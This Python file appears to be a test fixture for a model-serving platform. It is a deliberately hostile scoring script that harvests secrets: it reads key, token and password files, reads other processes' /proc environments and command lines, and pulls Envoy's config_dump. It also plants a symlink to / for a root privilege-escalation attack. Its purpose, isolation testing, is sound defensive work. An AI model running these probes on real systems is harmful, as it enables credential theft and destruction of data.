"""A hostile scoring script: looks for everything of the platform's it can reach.

run() returns what it found; the tests assert that none of it is a secret.
"""

import os
import socket
from pathlib import Path

DENIED = "denied"


def init():
    pass


def _read(path: Path) -> str:
    try:
        if path.is_dir():
            return "listed: " + ", ".join(sorted(p.name for p in path.iterdir()))
        return path.read_text(errors="replace")
    except FileNotFoundError:
        return "missing"
    except PermissionError:
        return DENIED


def _walk(root: Path) -> dict:
    found = {}
    try:
        for dirpath, _, filenames in os.walk(
            root, onerror=lambda e: found.update({str(root): DENIED})
        ):
            for name in filenames:
                found[str(Path(dirpath) / name)] = _read(Path(dirpath) / name)
    except OSError:
        found[str(root)] = DENIED
    return found


def _processes() -> list:
    """Every other process's environment and command line that can be read."""
    readable = []
    for entry in Path("/proc").iterdir():
        pid = entry.name
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        for part in ("environ", "cmdline"):
            try:
                text = (
                    Path(f"/proc/{pid}/{part}")
                    .read_bytes()
                    .replace(b"\0", b" ")
                    .decode(errors="replace")
                )
            except OSError:
                continue
            readable.append(f"{pid}/{part}: {text}")
    return readable


def _envoy_admin(state: Path) -> str:
    """Envoy's /config_dump holds every key and gateway secret."""
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.connect(str(state / "envoy" / "admin.sock"))
            s.sendall(b"GET /config_dump HTTP/1.0\r\n\r\n")
            return s.recv(1 << 20).decode(errors="replace")
    except PermissionError:
        return DENIED
    except OSError as exc:
        return f"error: {exc}"


def _swap_own_workspace() -> dict:
    """Try to put a symbolic link where root works on the deployment's behalf (its
    workspace's `artifacts` and `home`, its folder of copies): root following it on the
    next prepare would chmod and delete whatever it leads to."""
    workspace = Path(os.environ["AML_APP_ROOT"]).parents[2]
    tried = {}
    for name in ("artifacts", "home"):
        entry = workspace / name
        try:
            entry.rename(entry.with_name(name + ".old"))
        except PermissionError:
            tried[name] = DENIED
            continue
        entry.with_name(name + ".old").rename(entry)  # put back: the test asks if it could
        tried[name] = "renamed"
    try:
        (workspace / "artifacts" / "planted").symlink_to("/")
        tried["planted"] = "linked"
    except PermissionError:
        tried["planted"] = DENIED
    return tried


def run(raw_data):
    state = Path(os.environ["PROBE_STATE_DIR"])
    victim = Path(os.environ["PROBE_VICTIM_WORKSPACE"])
    files = {
        str(p): _read(p)
        for p in [
            state,
            state / "admin-token",
            state / "secret.key",
            state / "platform.json",
            state / "tls",
            state / "tls" / "ca.key",
            state / "tls" / "gateway.key",
            state / "pki",
            state / "pki" / "ca.key",
            state / "pki" / "client-sluice-gateway.key",
            state / "nats-auth",
            state / "nats-auth" / "passwords.json",
            state / "mongo-auth",
            state / "mongo-auth" / "password",
            state / "artifacts",
            state / "data",
            state / "logs",
            state / "instances",
            state / "workspaces",
            victim,
        ]
    }
    files.update(_walk(victim))
    files.update(_walk(state / "artifacts"))
    return {
        "uid": os.getuid(),
        "env": dict(os.environ),
        "files": files,
        "processes": _processes(),
        "envoy_admin": _envoy_admin(state),
        "workspace": _swap_own_workspace(),
    }
